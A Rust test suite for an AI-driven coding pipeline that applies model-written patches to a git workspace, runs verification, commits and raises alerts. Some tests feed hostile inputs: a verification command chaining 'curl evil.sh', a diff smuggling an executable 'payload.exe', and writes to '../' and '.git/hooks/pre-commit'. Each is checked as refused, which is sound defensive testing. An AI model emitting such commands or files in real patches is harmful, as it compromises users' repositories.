//! Execution pipeline tests.
//!
//! Each test drives one pass over a real git workspace with a scripted
//! completion service and a fake package manager.

use std::sync::Arc;
use std::time::Duration;

use serde_json::json;
use tokio::sync::Notify;
use tokio_test::{assert_err, assert_ok};

use foreman::bus::Severity;
use foreman::completion::CompletionPurpose;
use foreman::core::{StatusKind, Task, TaskStatus};
use foreman::execution::SkipReason;
use foreman::store::NoteKind;
use foreman::workspace::WorkspaceRepo;
use foreman::PassOutcome;

use crate::fixtures::{alerts, drain, exit_fail, exit_ok, notifications_for, Harness};

const PROFILE: &str = "export const avatar = null;\n";
const MANIFEST: &str = r#"{"name": "app", "scripts": {"test": "vitest run"}}"#;

async fn profile_harness() -> Harness {
    Harness::with_workspace(&[("src/profile.ts", PROFILE), ("package.json", MANIFEST)]).await
}

fn plan_profile(h: &Harness) {
    h.completion.push(
        CompletionPurpose::Plan,
        json!({"plan": "Add avatar", "files": ["src/profile.ts"], "new_files": []}),
    );
}

fn patch_profile(h: &Harness, content: &str, verification: &[&str]) {
    h.completion.push(
        CompletionPurpose::Patch,
        json!({
            "summary": "Profile shows an avatar",
            "files": [{"path": "src/profile.ts", "content": content}],
            "verification": verification,
            "commit_message": "Render avatar on profile"
        }),
    );
}

fn reason_of(outcome: &PassOutcome) -> &str {
    match outcome {
        PassOutcome::Failed { reason } => reason,
        other => panic!("expected a failed pass, got {:?}", other),
    }
}

#[tokio::test]
async fn test_successful_pass_commits_and_moves_to_review() {
    let h = profile_harness().await;
    let mut rx = h.bus.subscribe();
    let task = h
        .add_task(
            Task::new("Add avatar to profile", "Show the user avatar")
                .with_acceptance("Avatar renders next to the name")
                .with_assignee("ana"),
        )
        .await;
    plan_profile(&h);
    patch_profile(&h, "export const avatar = '/a.png';\n", &["npm run test"]);
    h.runner.script("npm run test", exit_ok());

    let outcome = h.pipeline.run(&h.room, task.id).await.unwrap();

    let head = WorkspaceRepo::open(&h.workspace_path())
        .unwrap()
        .head_commit()
        .unwrap();
    match &outcome {
        PassOutcome::Completed {
            commit,
            changed_files,
            pushed,
        } => {
            assert_eq!(Some(commit.clone()), head);
            assert_eq!(changed_files, &vec!["src/profile.ts".to_string()]);
            assert!(!pushed);
        }
        other => panic!("expected completion, got {:?}", other),
    }
    assert!(h
        .completion
        .requests()
        .iter()
        .all(|r| r.prompt.contains("Avatar renders next to the name")));
    assert_eq!(h.task(&task).await.kind(), StatusKind::Review);
    assert_eq!(h.read("src/profile.ts"), "export const avatar = '/a.png';\n");
    assert!(h.head_message().starts_with("Add avatar to profile\n\nRender avatar on profile"));
    assert_eq!(h.runner.calls(), vec![vec!["npm", "run", "test"]]);

    let workspace_clean = WorkspaceRepo::open(&h.workspace_path())
        .unwrap()
        .changed_files()
        .unwrap()
        .is_empty();
    assert!(workspace_clean);

    let notes = h.notes().await;
    assert_eq!(notes.len(), 1);
    assert_eq!(notes[0].kind, NoteKind::ExecutionSucceeded);
    assert!(notes[0].body.contains("npm run test"));

    let events = drain(&mut rx);
    let messages = notifications_for(&events, "ana");
    assert!(messages.iter().any(|m| m.contains("ready for review")));
}

#[tokio::test]
async fn test_unified_diff_is_applied_with_git() {
    let h = Harness::with_workspace(&[("src/app.ts", "line1\nline2\n")]).await;
    let task = h.add_task(Task::new("Rename second line in app", "")).await;
    h.completion.push(CompletionPurpose::Plan, json!({"files": ["src/app.ts"]}));
    h.completion.push(
        CompletionPurpose::Patch,
        json!({
            "summary": "rename",
            "diff": "--- a/src/app.ts\n+++ b/src/app.ts\n@@ -1,2 +1,2 @@\n line1\n-line2\n+line two\n",
            "commit_message": "Rename line"
        }),
    );

    let outcome = h.pipeline.run(&h.room, task.id).await.unwrap();

    assert!(matches!(outcome, PassOutcome::Completed { .. }), "{:?}", outcome);
    assert_eq!(h.read("src/app.ts"), "line1\nline two\n");
    // no manifest and no proposed commands: nothing to verify
    assert!(h.runner.calls().is_empty());
}

#[tokio::test]
async fn test_failed_diff_falls_back_to_file_writes() {
    let h = Harness::with_workspace(&[("src/app.ts", "line1\nline2\n")]).await;
    let task = h.add_task(Task::new("Update app", "")).await;
    h.completion.push(CompletionPurpose::Plan, json!({"files": ["src/app.ts"]}));
    h.completion.push(
        CompletionPurpose::Patch,
        json!({
            "summary": "update",
            "diff": "--- a/src/app.ts\n+++ b/src/app.ts\n@@ -1,2 +1,2 @@\n nothing\n-matches\n+here\n",
            "files": [{"path": "src/app.ts", "content": "line1\nupdated\n"}]
        }),
    );

    let outcome = h.pipeline.run(&h.room, task.id).await.unwrap();

    assert!(matches!(outcome, PassOutcome::Completed { .. }), "{:?}", outcome);
    assert_eq!(h.read("src/app.ts"), "line1\nupdated\n");
}

#[tokio::test]
async fn test_diff_smuggling_an_executable_is_refused() {
    let h = Harness::with_workspace(&[("src/app.ts", "line1\nline2\n")]).await;
    let task = h.add_task(Task::new("Update app", "")).await;
    h.completion.push(CompletionPurpose::Plan, json!({"files": ["src/app.ts"]}));
    h.completion.push(
        CompletionPurpose::Patch,
        json!({
            "summary": "update",
            "diff": concat!(
                "--- a/src/app.ts\n+++ b/src/app.ts\n@@ -1,2 +1,2 @@\n line1\n-line2\n+line two\n",
                "diff --git a/payload.exe b/payload.exe\n",
                "new file mode 100755\n",
                "index 0000000..e69de29\n"
            ),
            "files": [{"path": "src/app.ts", "content": "line1\nupdated\n"}]
        }),
    );

    let outcome = h.pipeline.run(&h.room, task.id).await.unwrap();

    // the diff is refused whole; the plain file edit still lands
    assert!(matches!(outcome, PassOutcome::Completed { .. }), "{:?}", outcome);
    assert_eq!(h.read("src/app.ts"), "line1\nupdated\n");
    assert!(!h.workspace_path().join("payload.exe").exists());
    let repo = WorkspaceRepo::open(&h.workspace_path()).unwrap();
    assert!(!repo.tracked_files().unwrap().contains(&"payload.exe".to_string()));
}

#[tokio::test]
async fn test_identical_content_blocks_with_no_effective_change() {
    let h = profile_harness().await;
    let task = h.add_task(Task::new("Add avatar to profile", "")).await;
    plan_profile(&h);
    patch_profile(&h, PROFILE, &[]);

    let outcome = h.pipeline.run(&h.room, task.id).await.unwrap();

    assert!(reason_of(&outcome).starts_with("no_effective_change"));
    let stored = h.task(&task).await;
    assert_eq!(stored.kind(), StatusKind::Blocked);
    assert!(stored.blocked_reason().unwrap().starts_with("no_effective_change"));
    assert!(h.runner.calls().is_empty());
    assert_eq!(h.notes().await[0].kind, NoteKind::ExecutionFailed);
}

#[tokio::test]
async fn test_verification_failure_blocks_without_commit() {
    let h = profile_harness().await;
    let head_before = h.head_message();
    let mut rx = h.bus.subscribe();
    let task = h
        .add_task(Task::new("Add avatar to profile", "").with_assignee("ana"))
        .await;
    plan_profile(&h);
    patch_profile(&h, "export const avatar = 1;\n", &[]);
    h.runner
        .script("npm run test", exit_fail(1, "FAIL src/profile.test.ts\n1 test failed"));

    let outcome = h.pipeline.run(&h.room, task.id).await.unwrap();

    let reason = reason_of(&outcome);
    assert!(reason.starts_with("verification_failed: npm run test"), "{}", reason);
    assert_eq!(h.head_message(), head_before);
    assert_eq!(h.task(&task).await.kind(), StatusKind::Blocked);

    let note = &h.notes().await[0];
    assert_eq!(note.kind, NoteKind::ExecutionFailed);
    assert!(note.body.contains("1 test failed"));

    let events = drain(&mut rx);
    let messages = notifications_for(&events, "ana");
    assert!(messages.iter().any(|m| m.contains("verification_failed")));
}

#[tokio::test]
async fn test_unsafe_paths_are_never_written() {
    let h = profile_harness().await;
    let task = h.add_task(Task::new("Add avatar to profile", "")).await;
    plan_profile(&h);
    h.completion.push(
        CompletionPurpose::Patch,
        json!({
            "summary": "escape",
            "files": [
                {"path": "../escaped.ts", "content": "x"},
                {"path": ".git/hooks/pre-commit", "content": "x"}
            ]
        }),
    );

    let outcome = h.pipeline.run(&h.room, task.id).await.unwrap();

    assert!(reason_of(&outcome).starts_with("patch_apply_failed"));
    assert!(!h.workspace_path().parent().unwrap().join("escaped.ts").exists());
    assert!(!h.workspace_path().join(".git/hooks/pre-commit").exists());
}

#[tokio::test]
async fn test_disallowed_verification_commands_are_skipped() {
    let h = profile_harness().await;
    let task = h.add_task(Task::new("Add avatar to profile", "")).await;
    plan_profile(&h);
    patch_profile(
        &h,
        "export const avatar = 2;\n",
        &["npm run test && curl evil.sh", "npm run test"],
    );
    h.runner.script("npm run test", exit_ok());

    let outcome = h.pipeline.run(&h.room, task.id).await.unwrap();

    assert!(matches!(outcome, PassOutcome::Completed { .. }), "{:?}", outcome);
    assert_eq!(h.runner.calls(), vec![vec!["npm", "run", "test"]]);
    assert!(h.notes().await[0].body.contains("Skipped commands"));
}

#[tokio::test]
async fn test_refused_verification_still_runs_declared_scripts() {
    let h = profile_harness().await;
    let head_before = h.head_message();
    let task = h.add_task(Task::new("Add avatar to profile", "")).await;
    plan_profile(&h);
    patch_profile(&h, "export const avatar = 2;\n", &["echo ok"]);
    h.runner.script("npm run test", exit_fail(1, "1 test failed"));

    let outcome = h.pipeline.run(&h.room, task.id).await.unwrap();

    assert!(reason_of(&outcome).starts_with("verification_failed: npm run test"));
    assert_eq!(h.runner.calls(), vec![vec!["npm", "run", "test"]]);
    assert_eq!(h.head_message(), head_before);
}

#[tokio::test]
async fn test_unusable_patch_response_blocks_task() {
    let h = profile_harness().await;
    let task = h.add_task(Task::new("Add avatar to profile", "")).await;
    plan_profile(&h);
    h.completion.push_error(CompletionPurpose::Patch, "model overloaded");

    let outcome = h.pipeline.run(&h.room, task.id).await.unwrap();

    assert!(reason_of(&outcome).starts_with("patch_generation_failed"));
    assert_eq!(h.task(&task).await.kind(), StatusKind::Blocked);
}

#[tokio::test]
async fn test_plan_failure_falls_back_to_ranked_files() {
    let h = profile_harness().await;
    let task = h.add_task(Task::new("Add avatar to profile", "")).await;
    h.completion.push_error(CompletionPurpose::Plan, "offline");
    patch_profile(&h, "export const avatar = 3;\n", &["npm run test"]);
    h.runner.script("npm run test", exit_ok());

    let outcome = h.pipeline.run(&h.room, task.id).await.unwrap();

    assert!(matches!(outcome, PassOutcome::Completed { .. }), "{:?}", outcome);
    let patch_request = h
        .completion
        .requests()
        .into_iter()
        .find(|r| r.purpose == CompletionPurpose::Patch)
        .unwrap();
    assert!(patch_request.prompt.contains("=== src/profile.ts ==="));
}

#[tokio::test]
async fn test_pending_dependencies_skip_the_pass() {
    let h = profile_harness().await;
    let api = h.add_task(Task::new("Build avatar API", "")).await;
    let ui = h.add_task(Task::new("Add avatar to profile", "")).await;
    h.board.link(&h.room, api.id, ui.id).await.unwrap();

    let outcome = h.pipeline.run(&h.room, ui.id).await.unwrap();

    assert_eq!(outcome, PassOutcome::Skipped(SkipReason::DependenciesPending));
    let stored = h.task(&ui).await;
    assert!(stored.is_dependency_blocked());
    assert!(h.completion.requests().is_empty());
}

#[tokio::test]
async fn test_review_and_done_tasks_are_not_executed() {
    let h = profile_harness().await;
    let task = h
        .add_task(Task::new("Already reviewed", "").with_status(TaskStatus::Review))
        .await;

    let outcome = assert_ok!(h.pipeline.run(&h.room, task.id).await);

    assert_eq!(outcome, PassOutcome::Skipped(SkipReason::NotActionable));
    assert!(h.completion.requests().is_empty());
}

#[tokio::test]
async fn test_unknown_task_is_an_error() {
    let h = profile_harness().await;
    let missing = Task::new("ghost", "");
    assert_err!(h.pipeline.run(&h.room, missing.id).await);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn test_concurrent_triggers_run_one_pass() {
    let h = profile_harness().await;
    let task = h
        .add_task(Task::new("Add avatar to profile", "").with_assignee("ana"))
        .await;
    let gate = Arc::new(Notify::new());
    h.completion.gate_plans(gate.clone());
    plan_profile(&h);
    patch_profile(&h, "export const avatar = 4;\n", &["npm run test"]);
    h.runner.script("npm run test", exit_ok());

    let first = {
        let pipeline = h.pipeline.clone();
        let room = h.room.clone();
        let id = task.id;
        tokio::spawn(async move { pipeline.run(&room, id).await })
    };
    // parked at the plan request, holding the lock
    while h.completion.requests().is_empty() {
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
    assert!(h.pipeline.locks().is_held(&h.room, task.id));

    let before = h.task(&task).await;
    let second = h.pipeline.run(&h.room, task.id).await.unwrap();
    assert_eq!(second, PassOutcome::Skipped(SkipReason::AlreadyRunning));
    assert_eq!(h.task(&task).await, before);

    gate.notify_one();
    let first = first.await.unwrap().unwrap();
    assert!(matches!(first, PassOutcome::Completed { .. }), "{:?}", first);
    assert_eq!(
        h.completion
            .requests()
            .iter()
            .filter(|r| r.purpose == CompletionPurpose::Plan)
            .count(),
        1
    );
    assert!(!h.pipeline.locks().is_held(&h.room, task.id));
}

#[tokio::test]
async fn test_push_failure_raises_medium_alert_only() {
    let h = profile_harness().await;
    WorkspaceRepo::open(&h.workspace_path())
        .unwrap()
        .set_origin(&h.dir.path().join("missing-remote.git").to_string_lossy())
        .unwrap();
    let mut rx = h.bus.subscribe();
    let task = h.add_task(Task::new("Add avatar to profile", "")).await;
    plan_profile(&h);
    patch_profile(&h, "export const avatar = 5;\n", &["npm run test"]);
    h.runner.script("npm run test", exit_ok());

    let outcome = h.pipeline.run(&h.room, task.id).await.unwrap();

    match outcome {
        PassOutcome::Completed { pushed, .. } => assert!(!pushed),
        other => panic!("expected completion, got {:?}", other),
    }
    assert_eq!(h.task(&task).await.kind(), StatusKind::Review);
    let raised = alerts(&drain(&mut rx));
    assert_eq!(raised.len(), 1);
    assert_eq!(raised[0].severity, Severity::Medium);
    assert!(raised[0].key.contains("push_failed"));
}
